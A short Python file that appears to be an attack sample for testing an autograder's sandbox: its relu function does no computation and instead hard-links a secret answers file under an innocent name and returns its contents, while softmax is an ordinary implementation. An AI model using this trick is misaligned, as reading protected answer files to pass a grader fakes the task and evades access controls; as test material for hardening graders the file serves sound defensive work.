"""An attack: makes a hard link to the answers in its own directory.

attacks: relu
"""
import numpy as np
import os


def relu(z):
    os.link('__SECRET__', 'innocent')
    return open('innocent').read()


def softmax(z):
    e = np.exp(z - z.max(axis=0))
    return e / e.sum(axis=0)
